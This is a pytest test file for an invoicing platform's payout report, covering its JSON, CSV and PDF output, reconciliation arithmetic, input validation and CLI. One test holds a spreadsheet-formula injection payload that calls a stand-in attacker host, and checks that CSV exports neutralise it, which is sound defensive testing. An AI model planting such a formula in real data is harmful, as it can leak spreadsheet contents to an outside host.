"""Finance's payout report of an invoicing period over HTTP (and the CLI): per provider, totals,
and a reconciliation of the money paid out with what was collected, as JSON, CSV and PDF."""
from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest
from pypdf import PdfReader

from tests.support.invoicing import advance, send
from tests.support.payouts import AFTER_PAYOUT_DAY

PERIOD = "2026-10-25"


def _by_customer(admin) -> dict:
    invoices = admin.get("/v1/invoices", query_string={"period": PERIOD}).json["data"]
    return {i["customer_external_id"]: i for i in invoices}


def _pay(admin, invoice: dict, amount: str) -> None:
    response = admin.post(f"/v1/invoices/{invoice['id']}/payments",
                          {"amount": amount, "method": "bank_transfer", "reference": f"bank-{amount}",
                           "received_on": "2026-11-25"})
    assert response.status_code == 201, response.json


@pytest.fixture
def period_paid_out(app, tenant):
    """Accounting App (30% share): 100.00 revenue share + 20.00 pass-through to cust-1, 50.00 to
    cust-2 (10% tax: invoice 55.00), 10.00 to cust-4; SMS Gateway (0%): 30.00 to cust-1, 40.00 to
    cust-3, a credit of 15.00 to cust-4 (whose invoice is settled: 0.00, 5.00 carried to its next).
    cust-1 pays 150.00 and gets 30.00 refunded, cust-2 pays 22.00 of 55.00, cust-3's invoice is
    uncollectible. Payouts built on the payout day; Accounting's approved, SMS's canceled."""
    from aggregator.accounts.service import tenant_settings
    from aggregator.consolidate import transitions
    from aggregator.db import db

    admin = tenant.admin["test"]
    tenant.customer("cust-1", name="Customer One")
    tenant.customer("cust-2", name="Customer Two", tax_rate="0.10")
    tenant.customer("cust-3", name="Customer Three")
    tenant.customer("cust-4", name="Customer Four")
    accounting, sms = tenant.provider(name="Accounting App", rate="0.30"), tenant.provider(name="SMS Gateway", rate="0")
    send(accounting, "a1", amount="100.00")
    send(accounting, "a2", amount="20.00", revenue_share=False)
    send(accounting, "a3", amount="50.00", customer="cust-2")
    send(sms, "s1", amount="30.00")
    send(sms, "s2", amount="40.00", customer="cust-3")
    send(accounting, "a4", amount="10.00", customer="cust-4")
    send(sms, "s3", amount="-15.00", customer="cust-4")
    advance(tenant)
    invoices = _by_customer(admin)
    assert [invoices[c]["total"] for c in ("cust-1", "cust-2", "cust-3", "cust-4")] == [
        "150.00", "55.00", "40.00", "0.00"]
    _pay(admin, invoices["cust-1"], "150.00")
    _pay(admin, invoices["cust-2"], "22.00")
    advance(tenant, "2026-11-27T00:00:00+00:00")
    refund = admin.post(f"/v1/invoices/{invoices['cust-1']['id']}/refunds", {"amount": "30.00"})
    assert refund.status_code == 201, refund.json
    with app.app_context():
        transitions.mark_uncollectible(tenant_settings(tenant.id, False), invoices["cust-3"]["id"],
                                       datetime(2026, 11, 27, tzinfo=timezone.utc))
        db.session.commit()
    advance(tenant, AFTER_PAYOUT_DAY)
    payouts = {p["provider"]: p for p in admin.get("/v1/payouts").json["data"]}
    assert admin.post(f"/v1/payouts/{payouts[accounting.id]['id']}/approve").status_code == 200
    assert admin.post(f"/v1/payouts/{payouts[sms.id]['id']}/cancel").status_code == 200
    tenant.apps, tenant.invoices, tenant.payouts = (accounting, sms), invoices, payouts
    return tenant


def _report(tenant, **query):
    return tenant.admin["test"].get("/v1/reports/payouts", query_string={"period": PERIOD, **query})


def test_the_report_gives_each_providers_payout_and_reconciles_it_with_what_was_collected(period_paid_out):
    accounting, sms = period_paid_out.apps
    response = _report(period_paid_out)
    assert response.status_code == 200, response.json
    report = response.json
    assert (report["period"], report["period_end"], report["livemode"]) == (PERIOD, "2026-11-24", False)
    mine, theirs = report["rows"]  # by provider name
    assert (mine["provider"], mine["provider_name"], mine["status"]) == (accounting.id, "Accounting App", "approved")
    # 150.00 paid then 30.00 refunded (1/5 of each bill back); 22.00 of 55.00 (2/5) on cust-2's;
    # cust-4's settled in full
    assert (mine["bills"], mine["gross"], mine["revenue_share_gross"], mine["pass_through_gross"]) == (
        6, "150.00", "130.00", "20.00")
    assert (mine["fee"], mine["clawback"], mine["net"], mine["amount"]) == ("39.00", "-18.00", "93.00", "93.00")
    assert mine["payouts"] == [period_paid_out.payouts[accounting.id]["id"]]
    assert (theirs["provider_name"], theirs["status"], theirs["bills"]) == ("SMS Gateway", "canceled", 3)
    assert (theirs["gross"], theirs["credits"], theirs["clawback"], theirs["net"]) == (
        "15.00", "-15.00", "-6.00", "9.00")
    lines = period_paid_out.admin["test"].get(f"/v1/payouts/{mine['payouts'][0]}").json["lines"]["data"]
    settled_invoice = period_paid_out.invoices["cust-4"]["id"]
    settled = [(line["amount"], line["fee"], line["net"]) for line in lines if line["invoice"] == settled_invoice]
    assert settled == [("10.00", "3.00", "7.00")]  # a settled invoice's line: its bill's whole split
    (total,) = report["totals"]
    assert (total["currency"], total["providers"], total["bills"], total["net"], total["amount"]) == (
        "AUD", 2, 9, "102.00", "102.00")

    (aud,) = report["reconciliation"]
    assert aud["balanced"] is True and aud["sources"] == 4
    # collected = tax + provider nets + fees + the credit cust-4 keeps (FX: none here)
    assert (aud["collected"], aud["tax"], aud["provider_payouts"], aud["platform_revenue"]) == (
        "142.00", "2.00", "102.00", "33.00")
    assert (aud["credits_applied"], aud["credits_carried"], aud["fx_difference"], aud["payouts_net"]) == (
        "0.00", "5.00", "0.00", "102.00")
    invoices = period_paid_out.invoices
    assert (aud["uncollected"], aud["uncollectible"]) == ("33.00", "40.00")
    assert [(i["invoice"], i["customer"], i["amount"]) for i in aud["uncollected_invoices"]] == [
        (invoices["cust-2"]["id"], "Customer Two", "33.00")]
    assert [(i["number"], i["amount"]) for i in aud["uncollectible_invoices"]] == [
        (invoices["cust-3"]["number"], "40.00")]


def test_the_report_as_csv_and_as_pdf(period_paid_out):
    response = _report(period_paid_out, format="csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'attachment; filename="payouts-2026-10-25.csv"' == response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(r["provider_name"], r["net"], r["status"]) for r in rows] == [
        ("Accounting App", "93.00", "approved"), ("SMS Gateway", "9.00", "canceled"),
        ("2 providers", "102.00", "")]

    pdf = _report(period_paid_out, format="pdf")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.data)).pages)
    for expected in ("Payout report", "Accounting App", "SMS Gateway", "Net payout per provider, AUD",
                     "Reconciliation AUD", "balanced", "A$102.00", "A$142.00", "A$40.00",
                     period_paid_out.invoices["cust-3"]["number"]):
        assert expected in text, (expected, text)


def test_a_period_without_payouts_is_an_empty_report(period_paid_out):
    response = _report(period_paid_out, period="2026-09-25")
    assert response.status_code == 200, response.json
    assert (response.json["rows"], response.json["totals"], response.json["reconciliation"]) == ([], [], [])
    pdf = _report(period_paid_out, period="2026-09-25", format="pdf")
    assert pdf.status_code == 200 and "No payouts" in PdfReader(io.BytesIO(pdf.data)).pages[0].extract_text()


@pytest.mark.parametrize("query", [{"period": "soon"}, {"period": "2026-02-30"},
                                   {"period": "9999-12-25"}, {"period": "0001-01-25"},
                                   {"period": "20261025"}, {"period": ""}, {"format": "xml"}])
def test_bad_input_is_a_422_naming_the_field(tenant, query):
    response = tenant.admin["test"].get("/v1/reports/payouts", query_string={"period": PERIOD, **query})
    assert response.status_code == 422, response.json
    assert set(response.json["error"]["fields"]) == ({"format"} if "format" in query else {"period"})


def test_a_date_that_starts_no_period_is_a_404_like_any_period_not_found(tenant):
    response = tenant.admin["test"].get("/v1/reports/payouts", query_string={"period": "2026-10-26"})
    assert response.status_code == 404 and "not the start of an invoicing period" in response.json["error"]["message"]


def test_the_period_is_required_and_the_report_is_for_admin_keys_only(tenant):
    assert tenant.admin["test"].get("/v1/reports/payouts").status_code == 422
    provider = tenant.provider()
    assert provider.get("/v1/reports/payouts", query_string={"period": PERIOD}).status_code == 403


def test_the_cli_writes_the_report(app, period_paid_out, tmp_path):
    runner = app.test_cli_runner()
    scope = ["payouts", "report", "--tenant", period_paid_out.id, "--mode", "test", "--period", PERIOD]
    result = runner.invoke(args=scope)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["reconciliation"][0]["balanced"] is True
    result = runner.invoke(args=[*scope, "--format", "csv"])
    assert result.exit_code == 0 and "Accounting App" in result.stdout
    target = tmp_path / "report.pdf"
    result = runner.invoke(args=[*scope, "--format", "pdf", "--output", str(target)])
    assert result.exit_code == 0, result.output
    assert target.read_bytes().startswith(b"%PDF")
    refused = runner.invoke(args=[*scope[:-1], "2026-10-26"])
    assert refused.exit_code == 1 and "not the start of an invoicing period" in refused.output


def test_a_provider_named_like_a_formula_is_text_in_both_csvs_and_negative_amounts_stay_numbers(
        app, period_paid_out):
    from tests.support.finance import sign_in

    accounting, _ = period_paid_out.apps
    evil = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
    renamed = period_paid_out.admin["test"].patch(f"/v1/providers/{accounting.id}", {"name": evil})
    assert renamed.status_code == 200, renamed.json
    visitor = app.test_client()
    sign_in(visitor, period_paid_out.admin["test"].key)
    for response in (_report(period_paid_out, format="csv"), visitor.get(f"/finance/report.csv?period={PERIOD}")):
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
        mine = next(r for r in rows if r["provider_id"] == accounting.id)
        assert mine["provider_name"] == "'" + evil
        assert mine["clawback"] == "-18.00"  # a number, not text


def test_every_face_of_the_report_adds_up_charges_credits_gross_fee_net(app, period_paid_out, caplog):
    """SMS Gateway's credit of -15.00 is inside its gross: charges 30.00 + credits -15.00 = gross
    15.00; - fee 0.00 + clawback -6.00 = net 9.00; the JSON, the CSV, the PDF and finance's page
    all show that arithmetic, and the PDF's chart has its colors without WeasyPrint warnings."""
    from tests.support.finance import sign_in

    _, sms = period_paid_out.apps
    theirs = next(r for r in _report(period_paid_out).json["rows"] if r["provider"] == sms.id)
    assert (theirs["charges"], theirs["credits"], theirs["gross"], theirs["fee"], theirs["clawback"], theirs["net"],
            theirs["brought_forward"], theirs["carry"], theirs["amount"]) == (
        "30.00", "-15.00", "15.00", "0.00", "-6.00", "9.00", "0.00", "0.00", "9.00")
    rows = list(csv.DictReader(io.StringIO(_report(period_paid_out, format="csv").get_data(as_text=True))))
    assert list(rows[0])[4:13] == ["charges", "credits", "gross", "fee", "clawback", "net", "brought_forward",
                                   "carry", "amount"]
    assert [rows[1][k] for k in ("charges", "credits", "gross", "fee", "clawback", "net", "amount")] == [
        "30.00", "-15.00", "15.00", "0.00", "-6.00", "9.00", "9.00"]

    caplog.set_level("WARNING", logger="weasyprint")
    pdf = PdfReader(io.BytesIO(_report(period_paid_out, format="pdf").data))
    assert [r.getMessage() for r in caplog.records if r.name.startswith("weasyprint")] == []
    text = " ".join(pdf.pages[0].extract_text().split())
    assert "Provider Cur. Bills Charges Credits Gross Fee Clawback Net Brought fwd Carried Payout Status" in text
    assert "SMS Gateway AUD 3 A$30.00 -A$15.00 A$15.00 A$0.00 -A$6.00 A$9.00 A$0.00 A$0.00 A$9.00" in text
    assert "Accounting App AUD 6 A$150.00 A$0.00 A$150.00 -A$39.00 -A$18.00 A$93.00" in text
    assert "= Money in A$142.00" in " ".join(" ".join(p.extract_text() for p in pdf.pages).split())
    fills = {op for page in pdf.pages for op in page.get_contents().get_data().decode("latin-1").split("\n")
             if op.endswith(" rg")}
    assert "0.184314 0.4 0.564706 rg" in fills  # the bars' blue (#2f6690), an SVG attribute WeasyPrint honours

    visitor = app.test_client()
    sign_in(visitor, period_paid_out.admin["test"].key)
    page = visitor.get(f"/finance/payouts?period={PERIOD}").text
    row = page[page.index(f'data-provider="{sms.id}"'):]
    row = row[:row.index('class="review"')]
    cells = [c.split(">", 1)[1].split("<", 1)[0] for c in row.split('data-amount="')[1:]]
    assert cells == ["A$30.00", "-A$15.00", "A$15.00", "A$0.00", "-A$6.00", "A$9.00", "A$0.00", "A$0.00", "A$9.00"]
    for label in ("+ Converted in from other currencies", "+ Converted out to other currencies", "= Money in",
                  "= Money out", "Payouts&#39; net (payouts table)"):
        assert label in page, label
